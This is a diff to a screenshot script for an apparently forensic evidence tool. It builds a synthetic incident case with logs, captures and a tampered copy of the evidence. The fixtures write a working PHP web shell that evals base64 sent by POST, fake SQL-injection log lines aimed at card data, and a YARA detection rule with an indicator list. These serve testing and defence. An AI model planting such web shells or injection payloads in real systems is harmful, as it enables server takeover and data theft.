@@ -55,12 +55,17 @@ w("var/log/auth.log", "\n".join(auth) + "\n")
 acc = [f'198.51.100.{i % 9} - - [03/Dec/2026:09:{i // 60:02d}:{i % 60:02d} +0000] "GET /index.php?id={i}%27%20UNION%20SELECT%20card,cvv%20FROM%20customers HTTP/1.1" 200 512 "-" "sqlmap/1.7"' for i in range(300)]
 w("var/log/nginx/access.log", "\n".join(acc) + "\n")
 EOF
+# Each log last written when its last line says (the loader checks a log's
+# times against its modification time to infer the zone).
+touch -d '2026-12-03 09:13:44Z' "$src/var/log/auth.log"
+touch -d '2026-12-03 09:04:59Z' "$src/var/log/nginx/access.log"
 "$exe" capture --case IR-2026-041 --examiner "A. Martin" --evidence E01 \
   --purpose "First snapshot of web01 after the forum post" -o "$case_dir" "$src" >/dev/null
 sleep 1
 echo '<?php eval(base64_decode($_POST["c"])); ?>' >"$src/var/www/html/uploads/cache.php"
 sed -i '/^backup:/d' "$src/etc/passwd"
 echo "Dec  3 10:00:00 web01 sshd[3000]: Accepted publickey for root from 203.0.113.12 port 50001 ssh2" >>"$src/var/log/auth.log"
+touch -d '2026-12-03 10:00:00Z' "$src/var/log/auth.log"
 "$exe" capture --case IR-2026-041 --examiner "A. Martin" --evidence E02 \
   --purpose "Second snapshot, after containment" -o "$case_dir" "$src" >/dev/null
 e01=$(ls "$case_dir"/IR-2026-041_E01_*.zip)
@@ -82,6 +87,35 @@ for n, d in items:
 out.close()
 EOF
 
+# A copy of E02 whose web shell was rewritten behind its seal: the
+# findings on it carry the ALTERED mark.
+e02=$(ls "$case_dir"/IR-2026-041_E02_*.zip)
+mkdir -p "$work/tampered2"
+cp "$e02" "${e02%.zip}.custody.jsonl" "$work/tampered2/"
+tampered2=$work/tampered2/$(basename "$e02")
+python3 - "$tampered2" <<'EOF'
+import sys, zipfile
+p = sys.argv[1]
+z = zipfile.ZipFile(p)
+items = [(i.filename, z.read(i)) for i in z.infolist()]
+z.close()
+out = zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED)
+for n, d in items:
+    if n.endswith("/var/www/html/uploads/cache.php"):
+        d = b'<?php eval(base64_decode($_POST["x"])); /* cache */ ?>\n'
+    out.writestr(n, d)
+out.close()
+EOF
+# A YARA rule and an indicator list for the settings rows.
+cat >"$work/webshells.yar" <<'EOF'
+rule php_eval_of_posted_base64 {
+  meta: description = "PHP evaluates base64 posted by the client" severity = "high"
+  strings: $a = "eval(base64_decode($_POST" ascii
+  condition: $a
+}
+EOF
+printf '203.0.113.12 # the address that logged in after the brute force\n' >"$work/ioc.txt"
+
 # An encrypted capture (age) for the Unlock window, and a bigger folder
 # so a capture runs long enough to be seen running.
 age-keygen -o "$work/identity.txt" 2>/dev/null
@@ -94,7 +128,9 @@ for i in $(seq 1 60); do head -c 20000000 /dev/urandom >"$work/bulk/part-$i.bin"
 
 # --- The window ------------------------------------------------------------
 display=:${SHOTS_DISPLAY:-93}
-Xvfb "$display" -screen 0 1024x700x24 -nolisten tcp >/dev/null 2>&1 &
+# A 1440x900 screen; the window is held at 1024x700 for the laptop shots
+# and grown to 1440x900 for the last ones.
+Xvfb "$display" -screen 0 1440x900x24 -nolisten tcp >/dev/null 2>&1 &
 xvfb=$!
 sleep 1
 export DISPLAY=$display
@@ -104,10 +140,12 @@ HOME=$work/home XDG_RUNTIME_DIR=$work/xdg "$exe" >"$work/app.log" 2>&1 &
 app=$!
 sleep 6
 # With no window manager, keys reach the window only once it has the focus.
-xdotool search --name Exhibit windowfocus 2>/dev/null || true
+wid=$(xdotool search --name Exhibit | head -1)
+xdotool windowfocus "$wid" 2>/dev/null || true
+xdotool windowsize "$wid" 1024 700; sleep 2
 click() { xdotool mousemove "$1" "$2" click 1; sleep "${3:-1}"; }
 typed() { xdotool type --delay 40 "$1"; sleep 0.5; }
-shot() { import -window root "$out/$1"; echo "  $out/$1"; }
+shot() { import -window "$wid" "$out/$1"; echo "  $out/$1"; }
 # Tabs on the second row at 1024 px once a case is open.
 tab() {
   case "$1" in
@@ -138,4 +176,20 @@ tab Verify; click 400 143; xdotool key ctrl+a; typed "$tampered"; click 70 283 8
 shot 05-verify-failed.png
 tab Evidence; click 375 94; xdotool key ctrl+a; typed "$locked"; click 723 94 3
 shot unlock.png
+xdotool key Escape; sleep 1
+# Findings on the copy of E02 whose web shell was rewritten: the ALTERED
+# badge and the red banner.
+tab Findings; click 370 147; xdotool key ctrl+a; typed "$tampered2"; click 75 304 8
+shot findings-altered-1024x700.png
+# The settings rows: a YARA rule file and an indicator list.
+click 557 177 1; click 215 239; typed "$work/webshells.yar"
+click 197 270; typed "$work/ioc.txt"; click 75 304 8
+shot findings-yara-ioc-1024x700.png
+# The lists are one setting: Logs and Investigation already hold it.
+tab Logs; click 47 277 6
+shot ioc-logs-1024x700.png
+# The analyst's bigger screen: the tabs move up beside the title.
+xdotool windowsize "$wid" 1440 900; sleep 2
+click 210 21 2; click 70 178 10
+shot ioc-investigation-1440x900.png
 echo "done (work files in $work)"
